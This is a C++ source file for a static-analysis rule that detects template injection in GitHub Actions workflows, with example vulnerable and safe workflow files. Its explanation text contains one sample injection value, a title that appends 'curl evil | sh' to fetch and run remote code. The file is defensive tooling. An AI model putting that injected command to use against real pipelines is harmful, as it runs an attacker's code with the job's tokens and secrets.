#include <set>
#include <string>

#include "check/rule.h"
#include "core/ascii.h"
#include "project/ci_expression.h"
#include "project/ci_tools.h"
#include "project/written_text.h"

namespace plimsoll::check::rules {
namespace {

constexpr Meta kMeta{
    .slug = "ci-template-injection",
    .title = "Strangers' text becomes part of a script",
    .severity = Severity::kHigh,
    .control = Control::kVerifiedSources,
    .enabled = true,
    .aliases =
        "zizmor:template-injection semgrep:run-shell-injection "
        "semgrep:github-script-injection",
    .why =
        "The expression is pasted into the script before a shell sees it, so a title such as "
        "\"; curl evil | sh\" runs with the job's token and secrets.",
    .fix_note =
        "Give the value to the step as an environment variable and use \"$TITLE\" in the "
        "script: a shell does not run what a variable holds.",
    .sources =
        "https://docs.github.com/en/actions/concepts/security/script-injections "
        "https://docs.zizmor.sh/audits/#template-injection",
};

/// The input of actions that run it as a program.
const Node* script_input(const ci::Step& step) {
  if (step.with == nullptr || ci::action_name(step) != "actions/github-script") return nullptr;
  return step.with->find("script");
}

/// Inputs that were told: one is given once, however often it is used.
using Told = std::set<std::string>;

void check_script(const ci::Workflow& workflow, const Node& script, Told& told, Sink& sink) {
  if (!script.is_scalar()) return;
  const auto contexts = ci::untrusted_contexts(script.text, workflow);
  if (contexts.empty()) return;
  const LogicalText written = ci::written_text(script, *workflow.file);
  for (const ci::UntrustedContext& context : contexts) {
    const Span place = written.text.empty() ? script.span : written.source(context.span);
    const std::string name = "'" + std::string(context.path) + "'";
    if (!context.from_caller) {
      Finding& finding = sink.report(place, name + " is pasted into the script, whoever wrote it");
      // Without secrets a stranger gains little: a pull request can change the script itself.
      if (!context.with_secrets) finding.severity = Severity::kMedium;
    } else if (told.insert(ascii::lower(context.path)).second) {
      // Only some callers hand on a stranger's text, and they stand elsewhere.
      sink.report(place, name + " is pasted into the script, whatever the caller gives").severity =
          Severity::kLow;
    }
  }
}

void check(const ci::Workflow& workflow, Sink& sink) {
  Told told;
  for (const ci::Job& job : workflow.jobs) {
    for (const ci::Step& step : job.steps) {
      if (step.run_node != nullptr) check_script(workflow, *step.run_node, told, sink);
      if (const Node* const script = script_input(step)) {
        check_script(workflow, *script, told, sink);
      }
    }
  }
}

constexpr Example kExamples[] = {
    {.name = "an issue's title",
     .file = ".github/workflows/triage.yml",
     .before = "on: issues\n"
               "jobs:\n"
               "  triage:\n"
               "    runs-on: ubuntu-latest\n"
               "    steps:\n"
               "      - run: |\n"
               "          echo \"${{ «github.event.issue.title» }}\"\n"},
    {.name = "a branch name in a JavaScript",
     .file = ".github/workflows/label.yml",
     .before = "on: pull_request_target\n"
               "jobs:\n"
               "  label:\n"
               "    runs-on: ubuntu-latest\n"
               "    steps:\n"
               "      - uses: actions/github-script@v7\n"
               "        with: {script: \"core.info('${{ «github.head_ref» }}')\"}\n"},
    {.name = "as a variable",
     .file = ".github/workflows/triage.yml",
     .before = "on: issues\n"
               "jobs:\n"
               "  triage:\n"
               "    runs-on: ubuntu-latest\n"
               "    steps:\n"
               "      - run: echo \"$TITLE\"\n"
               "        env: {TITLE: '${{ github.event.issue.title }}'}\n"},
    {.name = "only compared",
     .file = ".github/workflows/triage.yml",
     .before = "on: issue_comment\n"
               "jobs:\n"
               "  triage:\n"
               "    runs-on: ubuntu-latest\n"
               "    steps:\n"
               "      - run: echo ${{ contains(github.event.comment.body, '/go') }}\n"},
    {.name = "an input of a composite action",
     .file = "action.yml",
     .before = "inputs:\n"
               "  title: {required: true}\n"
               "runs:\n"
               "  using: composite\n"
               "  steps:\n"
               "    - run: echo \"${{ «inputs.title» }}\"\n"
               "      shell: bash\n"},
    {.name = "a text that the caller of a workflow gives",
     .file = ".github/workflows/deploy.yml",
     .before = "on:\n"
               "  workflow_call:\n"
               "    inputs:\n"
               "      ref: {type: string}\n"
               "      dry: {type: boolean}\n"
               "jobs:\n"
               "  a:\n"
               "    runs-on: ubuntu-latest\n"
               "    steps:\n"
               "      - run: deploy --dry=${{ inputs.dry }} \"${{ «inputs.ref» }}\"\n"
               "      - run: echo \"${{ inputs.ref }}\"\n"},
    {.name = "an input as a variable",
     .file = "action.yml",
     .before = "inputs:\n"
               "  title: {required: true}\n"
               "runs:\n"
               "  using: composite\n"
               "  steps:\n"
               "    - run: echo \"$TITLE\"\n"
               "      shell: bash\n"
               "      env: {TITLE: '${{ inputs.title }}'}\n"},
    {.name = "who starts a workflow by hand may write to the repository anyway",
     .file = ".github/workflows/release.yml",
     .before = "on:\n"
               "  workflow_dispatch:\n"
               "    inputs:\n"
               "      version: {type: string}\n"
               "jobs:\n"
               "  a:\n"
               "    runs-on: ubuntu-latest\n"
               "    steps:\n"
               "      - run: release ${{ inputs.version }}\n"},
    {.name = "an event that has no such text",
     .file = ".github/workflows/release.yml",
     .before = "on: push\n"
               "jobs:\n"
               "  a:\n"
               "    runs-on: ubuntu-latest\n"
               "    steps:\n"
               "      - run: echo ${{ github.head_ref }}\n"},
};

}  // namespace

const Rule& ci_template_injection() {
  static constexpr Rule rule{kMeta, check, kExamples};
  return rule;
}

}  // namespace plimsoll::check::rules
